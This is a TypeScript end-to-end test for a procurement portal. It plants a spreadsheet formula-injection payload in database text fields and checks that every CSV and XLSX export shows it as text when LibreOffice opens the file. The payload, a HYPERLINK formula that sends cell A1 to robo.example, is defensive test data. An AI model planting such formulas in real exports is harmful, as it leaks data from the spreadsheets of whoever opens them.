import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser } from '#e2e/browser.ts';
import { startDemonstration } from '#e2e/demonstration.ts';
import { signedInOfficer, type Officer } from '#e2e/officer.ts';
import { inDatabase } from '#e2e/portal-database.ts';
import { newDataDir, type Portal } from '#e2e/portal.ts';

const API = '/DISU/AdquisicionesUG';
const OFFICE = '/usr/bin/soffice';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const isAway = !existsSync(OFFICE);
const without = isAway ? ' (se omite: esta máquina no tiene LibreOffice)' : '';
/** Of the demonstration: a procedure with published answers, an evaluated period, and a quarter with contracts. */
const ANSWERED = 'LP-UG-015-2026';
const PERIOD = '2026-1';
const NUMBERS: Record<string, string> = { ejercicio: '2026', trimestre: '3' };
/** What somebody would write into a name so that it runs in the spreadsheet of whoever opens the export. */
const PLANTED = '=HYPERLINK("http://robo.example/?"&A1;"Ver")';
/** Where texts are kept that people outside the unit write, or that are shown in a table. */
const TEXTS = {
  supplier: 'name',
  procedure: 'title',
  lot: 'description',
  contract: 'title',
  sanction: 'name',
  document: 'title',
  clarification_question: 'text',
  notice: 'title',
  area: 'name',
  officer: 'name',
};

let portal: Portal;
let browser: Browser;
let officer: Officer;
beforeAll(async () => {
  if (isAway) return;
  portal = await startDemonstration({ LIMIT_FACTOR: '1000' });
  await inDatabase(portal.dataDir, async (database) => {
    // As an import or a person could have brought them; whatever forbids to write here does not matter for how they leave.
    await database.query('set session_replication_role = replica');
    for (const [table, column] of Object.entries(TEXTS)) {
      await database.query(`update ${table} set ${column} = $1`, [PLANTED]);
    }
  });
  browser = await launchBrowser();
  officer = await signedInOfficer(browser, portal.origin);
}, 600_000);
afterAll(async () => {
  await browser?.close();
  await portal?.stop();
});

describe.skipIf(isAway)(`Every table that leaves the portal, opened in LibreOffice${without}`, () => {
  test('shows as text what was written as a formula', async () => {
    const folder = await newDataDir();
    const addresses = await tables();
    expect(addresses.length).toBeGreaterThan(60);
    const files = new Map<string, string>();
    for (const [index, address] of addresses.entries()) {
      const answer = await fetch(portal.origin + API + address, {
        headers: { authorization: `Bearer ${officer.token}` },
      });
      expect(answer.status, `${address}: ${answer.ok ? '' : await answer.clone().text()}`).toBe(200);
      const kind = answer.headers.get('content-type') === SHEET ? 'xlsx' : 'csv';
      const name = `${kind}-${String(index).padStart(3, '0')}`;
      writeFileSync(join(folder, `${name}.${kind}`), Buffer.from(await answer.arrayBuffer()));
      files.set(name, address);
    }
    writeFileSync(join(folder, 'csv-control.csv'), 'a,b\n=1+1,2\n');

    const opened = openAll(folder, [...files.keys(), 'csv-control']);
    expect(formulasIn(opened.get('csv-control') ?? ''), 'a formula that is no text is seen').toHaveLength(1);
    opened.delete('csv-control');
    expect(opened.size, 'files that LibreOffice opened').toBe(files.size);
    for (const [name, text] of opened) {
      expect(formulasIn(text), files.get(name)).toEqual([]);
      expect(text, `${files.get(name)} has rows`).toContain('<table:table-cell');
    }
    const planted = [...opened].filter(([, text]) => text.includes('robo.example')).map(([name]) => name);
    expect(planted.filter((name) => name.startsWith('csv')).length).toBeGreaterThan(8);
    expect(planted.filter((name) => name.startsWith('xlsx')).length).toBeGreaterThan(8);
  }, 600_000);
});

interface Operation {
  parameters?: { name: string; in: string; required?: boolean; schema?: { enum?: string[] } }[];
  responses: Record<string, { content?: Record<string, unknown> }>;
}

/** Addresses of all tables that the API declares, with every format of each, for what the demonstration has. */
async function tables(): Promise<string[]> {
  const { paths } = await officer.send<{ paths: Record<string, { get?: Operation }> }>(
    'GET',
    '/openapi.json',
  );
  const list = Object.entries(paths).flatMap(([path, { get }]) => {
    const kinds = Object.keys(get?.responses['200']?.content ?? {});
    const isTable = kinds.includes('text/csv') || (kinds.length === 1 && kinds[0] === SHEET);
    if (get === undefined || !isTable || path.includes('{id}')) return [];
    return variants(path, get);
  });
  return list.filter((address) => !address.includes('formato=json'));
}

/** An address for each value of the parameters that must be given or that name the format. */
function variants(path: string, { parameters = [] }: Operation): string[] {
  let addresses = [path.replace('{numero}', ANSWERED).replace('{clave}', PERIOD)];
  for (const { name, in: place, required, schema } of parameters) {
    if (place === 'path' && schema?.enum !== undefined) {
      addresses = addresses.flatMap((address) =>
        (schema.enum ?? []).map((value) => address.replace(`{${name}}`, value)),
      );
    }
    if (place !== 'query' || (required !== true && name !== 'formato')) continue;
    const values = schema?.enum ?? [NUMBERS[name] ?? '1'];
    addresses = addresses.flatMap((address) =>
      values.map((value) => `${address}${address.includes('?') ? '&' : '?'}${name}=${value}`),
    );
  }
  return addresses;
}

/** All files as LibreOffice understands them, in one run of it: its flat XML says which cells are formulas. */
function openAll(folder: string, names: readonly string[]): Map<string, string> {
  const out = join(folder, 'out');
  mkdirSync(out);
  execFileSync(
    OFFICE,
    [
      `-env:UserInstallation=file://${join(folder, 'profile')}`,
      '--headless',
      '--convert-to',
      'fods',
      '--outdir',
      out,
      ...names.map((name) => join(folder, `${name}.${name.split('-')[0]}`)),
    ],
    { timeout: 300_000, stdio: 'ignore' },
  );
  return new Map(names.map((name) => [name, readFileSync(join(out, `${name}.fods`), 'utf8')]));
}

const formulasIn = (flat: string) => [...flat.matchAll(/table:formula="[^"]*"/g)].map(([formula]) => formula);
